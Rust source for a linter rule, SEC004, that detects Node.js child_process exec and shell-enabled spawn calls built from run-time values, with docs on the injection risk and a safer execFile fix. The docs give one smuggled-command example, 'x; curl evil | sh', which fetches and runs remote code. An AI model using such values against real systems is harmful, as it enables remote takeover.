//! SEC004: a shell command built at run time is run with Node's `child_process.exec`.

use qa_core::Language;
use tree_sitter::Node;

use crate::lang::{Call, ValueKind};
use crate::rules::helpers::{is_dynamic, kind};
use crate::rules::security::common::as_call;
use crate::rules::{Cx, Hooks, Rule, RuleMeta, declare_rule};

declare_rule! {
    id: "SEC004",
    name: "child-process-exec",
    family: Security,
    severity: High,
    languages: &[Language::JavaScript, Language::TypeScript],
    title: "Command built at run time is run through the shell by child_process",
    applies_to_tests: false,
    docs: r#"## What it does
Finds Node.js `child_process.exec`/`execSync` (and `shelljs`'s `exec`) called with a
command that is not a fixed string, and `spawn`/`spawnSync`/`execFile`/`execFileSync`
called with `shell: true` and a command or argument that is not a fixed string.

The rule follows how the module was bound (`require("child_process")`,
`import * as cp from "node:child_process"`, `const { exec } = require(...)`,
`promisify(cp.exec)`), so `RegExp.prototype.exec` (`pattern.exec(text)`) and unrelated
functions called `exec` are not reported.

## Why is this bad?
`exec` hands the whole string to `/bin/sh -c` (or `cmd.exe`), and so do `spawn` and
`execFile` with `shell: true`. Quotes, `;`, `&&`, `|`, `$(...)` and backticks in any value
pasted into the command run as extra commands: a branch or file name such as
`x; curl evil | sh` takes over the machine.

## How to fix
Use `execFile`/`spawn` with the program and an array of arguments and without `shell`:
no shell is involved and each argument reaches the program verbatim.

## Example
```javascript
const { exec } = require("child_process");
exec(`git log ${branch}`, callback);
```
Use instead:
```javascript
const { execFile } = require("child_process");
execFile("git", ["log", branch], callback);
```
"#,
}

pub(crate) struct ChildProcessExec;

/// Modules whose `exec` runs a string through the shell.
const MODULES: &[&str] = &["child_process", "shelljs"];

/// Functions that take a shell command string.
const SHELL_FUNCTIONS: &[&str] = &["exec", "execSync"];

/// Functions that take a program and arguments, and run a shell only with `shell: true`.
const SPAWN_FUNCTIONS: &[&str] = &["spawn", "spawnSync", "execFile", "execFileSync"];

/// How `child_process` is bound in a file.
#[derive(Default)]
struct Bindings {
    /// Names holding the module (`cp` in `const cp = require("child_process")`).
    namespaces: Vec<String>,
    /// Local names of its functions, with the function's name (`run` → `execSync`).
    functions: Vec<(String, String)>,
}

impl Rule for ChildProcessExec {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn hooks(&self) -> Hooks {
        Hooks::CALL
    }

    fn on_call(&self, call: &Call<'_>, cx: &mut Cx<'_, '_>) {
        if !MODULES.iter().any(|m| cx.imports(m)) {
            return;
        }
        let known = SHELL_FUNCTIONS.contains(&call.name) || SPAWN_FUNCTIONS.contains(&call.name);
        // Bare calls may be renamed bindings (`const run = promisify(exec)`).
        if !known && call.receiver().is_some() {
            return;
        }
        let bindings = file_bindings(cx, call.node);
        let Some(function) = resolve(call, &bindings) else {
            return;
        };
        if SHELL_FUNCTIONS.contains(&function.as_str()) {
            if let Some(cmd) = call.positional(0).filter(|c| is_dynamic(cx, *c)) {
                cx.report(
                    cmd,
                    format!(
                        "`{}` runs a command built at run time through the shell; use execFile/spawn with an array of arguments instead",
                        call.callee
                    ),
                );
            }
            return;
        }
        if !SPAWN_FUNCTIONS.contains(&function.as_str()) || !has_shell_option(cx, call) {
            return;
        }
        let mut suspect = call.positional(0).filter(|c| is_dynamic(cx, *c));
        if suspect.is_none()
            && let Some(args) = call
                .positional(1)
                .filter(|a| a.kind_id() == kind!(cx.dialect, "array"))
        {
            let mut cursor = args.walk();
            suspect = args
                .named_children(&mut cursor)
                .filter(|n| !n.is_extra())
                .find(|n| is_dynamic(cx, *n));
        }
        if let Some(part) = suspect {
            cx.report(
                part,
                format!(
                    "`{}` with `shell: true` passes a value built at run time to the shell; drop the `shell` option so arguments reach the program verbatim",
                    call.callee
                ),
            );
        }
    }
}

/// The `child_process` function a call invokes, if it invokes one.
fn resolve(call: &Call<'_>, b: &Bindings) -> Option<String> {
    let name = call.name.to_string();
    match call.receiver() {
        Some(recv) => {
            (is_module_expr(recv) || b.namespaces.iter().any(|n| n == recv)).then_some(name)
        }
        None => b
            .functions
            .iter()
            .find(|(local, _)| *local == call.callee)
            .map(|(_, f)| f.clone()),
    }
}

/// Whether an options object passed to the call sets `shell` to something other than
/// `false`.
fn has_shell_option(cx: &Cx<'_, '_>, call: &Call<'_>) -> bool {
    call.args.iter().any(|a| {
        let obj = a.value;
        if obj.kind_id() != kind!(cx.dialect, "object") {
            return false;
        }
        let mut cursor = obj.walk();
        let pairs: Vec<Node> = obj.named_children(&mut cursor).collect();
        pairs.into_iter().any(|p| {
            if p.kind_id() == kind!(cx.dialect, "shorthand_property_identifier") {
                // `{ shell }`: a variable, assume it may be true.
                return cx.text(p) == "shell";
            }
            if p.kind_id() != kind!(cx.dialect, "pair") {
                return false;
            }
            let key = p
                .child_by_field_name("key")
                .map(|k| cx.text(k).trim_matches(['"', '\'']));
            let value = p.child_by_field_name("value");
            key == Some("shell")
                && value.is_some_and(|v| {
                    !matches!(
                        cx.text(v),
                        "false" | "undefined" | "null" | "0" | "''" | "\"\""
                    )
                })
        })
    })
}

/// The bindings of the file being checked, read once per file and thread.
fn file_bindings(cx: &Cx<'_, '_>, at: Node<'_>) -> std::rc::Rc<Bindings> {
    use std::cell::RefCell;
    use std::rc::Rc;
    type Key = (String, usize, usize);
    thread_local! {
        static CACHE: RefCell<Option<(Key, Rc<Bindings>)>> = const { RefCell::new(None) };
    }
    let key: Key = (cx.path.to_string(), cx.src.as_ptr() as usize, cx.src.len());
    CACHE.with(|c| {
        if let Some((k, b)) = c.borrow().as_ref()
            && *k == key
        {
            return b.clone();
        }
        let b = Rc::new(bindings(cx, at));
        *c.borrow_mut() = Some((key, b.clone()));
        b
    })
}

/// Reads the file's `require`/`import` statements of `child_process` and `shelljs`.
fn bindings(cx: &Cx<'_, '_>, at: Node<'_>) -> Bindings {
    let mut root = at;
    while let Some(p) = cx.parent_of(root) {
        root = p;
    }
    let mut b = Bindings::default();
    let mut stack = vec![root];
    let mut visited = 0;
    while let Some(n) = stack.pop() {
        visited += 1;
        if visited > 100_000 {
            break;
        }
        let id = n.kind_id();
        if id == kind!(cx.dialect, "import_statement") {
            read_import(cx, n, &mut b);
            continue;
        }
        if id == kind!(cx.dialect, "variable_declarator") {
            read_declarator(cx, n, &mut b);
        }
        let mut cursor = n.walk();
        let kids: Vec<Node> = n.named_children(&mut cursor).collect();
        stack.extend(kids.into_iter().rev());
    }
    b
}

/// `child_process` itself or `require("child_process")` written inline.
fn is_module_expr(recv: &str) -> bool {
    MODULES
        .iter()
        .any(|m| recv == *m || (recv.starts_with("require(") && recv.contains(m)))
}

fn is_module(name: &str) -> bool {
    let name = name.strip_prefix("node:").unwrap_or(name);
    MODULES.contains(&name)
}

fn read_import(cx: &Cx<'_, '_>, n: Node<'_>, b: &mut Bindings) {
    let Some(source) = n.child_by_field_name("source") else {
        return;
    };
    if !matches!(cx.value(source), ValueKind::StaticString(s) if is_module(&s)) {
        return;
    }
    let mut stack = vec![n];
    while let Some(c) = stack.pop() {
        let id = c.kind_id();
        if id == kind!(cx.dialect, "import_clause") {
            // `import cp from "child_process"`: the default export is the module.
            let mut cursor = c.walk();
            for d in c.named_children(&mut cursor) {
                if d.kind_id() == kind!(cx.dialect, "identifier") {
                    b.namespaces.push(cx.text(d).to_string());
                }
            }
        } else if id == kind!(cx.dialect, "namespace_import") {
            let mut cursor = c.walk();
            for d in c.named_children(&mut cursor) {
                if d.kind_id() == kind!(cx.dialect, "identifier") {
                    b.namespaces.push(cx.text(d).to_string());
                }
            }
            continue;
        } else if id == kind!(cx.dialect, "import_specifier") {
            if let Some(name) = c.child_by_field_name("name") {
                let local = c.child_by_field_name("alias").unwrap_or(name);
                b.functions
                    .push((cx.text(local).to_string(), cx.text(name).to_string()));
            }
            continue;
        }
        let mut cursor = c.walk();
        stack.extend(c.named_children(&mut cursor));
    }
}

fn read_declarator(cx: &Cx<'_, '_>, n: Node<'_>, b: &mut Bindings) {
    let (Some(name), Some(value)) = (
        n.child_by_field_name("name"),
        n.child_by_field_name("value"),
    ) else {
        return;
    };
    if value.kind_id() == kind!(cx.dialect, "member_expression")
        && name.kind_id() == kind!(cx.dialect, "identifier")
        && let (Some(obj), Some(prop)) = (
            value.child_by_field_name("object"),
            value.child_by_field_name("property"),
        )
    {
        // `const run = require("child_process").execSync`, `const ex = cp.exec`.
        let obj = crate::lang::squash(cx.text(obj));
        if is_module_expr(&obj) || b.namespaces.contains(&obj) {
            b.functions
                .push((cx.text(name).to_string(), cx.text(prop).to_string()));
        }
        return;
    }
    let Some(call) = as_call(cx, value) else {
        return;
    };
    // `require("child_process")` or `await import("child_process")`.
    let is_require = call.is(&["require", "import"])
        && call
            .positional(0)
            .is_some_and(|a| matches!(cx.value(a), ValueKind::StaticString(s) if is_module(&s)));
    if is_require {
        if name.kind_id() == kind!(cx.dialect, "identifier") {
            b.namespaces.push(cx.text(name).to_string());
        } else if name.kind_id() == kind!(cx.dialect, "object_pattern") {
            let mut cursor = name.walk();
            for p in name.named_children(&mut cursor) {
                if p.kind_id() == kind!(cx.dialect, "shorthand_property_identifier_pattern") {
                    let t = cx.text(p).to_string();
                    b.functions.push((t.clone(), t));
                } else if p.kind_id() == kind!(cx.dialect, "pair_pattern")
                    && let (Some(k), Some(v)) =
                        (p.child_by_field_name("key"), p.child_by_field_name("value"))
                    && v.kind_id() == kind!(cx.dialect, "identifier")
                {
                    b.functions
                        .push((cx.text(v).to_string(), cx.text(k).to_string()));
                }
            }
        }
        return;
    }
    // `const run = require("child_process").execSync`, handled by the member case below;
    // `const execAsync = promisify(cp.exec)` / `util.promisify(exec)`.
    if call.name == "promisify"
        && name.kind_id() == kind!(cx.dialect, "identifier")
        && let Some(arg) = call.positional(0)
    {
        let t = crate::lang::squash(cx.text(arg));
        let (recv, f) = match t.rsplit_once('.') {
            Some((r, f)) => (Some(r.to_string()), f.to_string()),
            None => (None, t.clone()),
        };
        let bound = match recv {
            Some(r) => b.namespaces.contains(&r) || is_module_expr(&r),
            None => b.functions.iter().any(|(local, _)| *local == f),
        };
        if bound {
            let member = match t.rsplit_once('.') {
                Some(_) => f,
                None => b
                    .functions
                    .iter()
                    .find(|(local, _)| *local == f)
                    .map(|(_, m)| m.clone())
                    .unwrap_or(f),
            };
            b.functions.push((cx.text(name).to_string(), member));
        }
    }
}
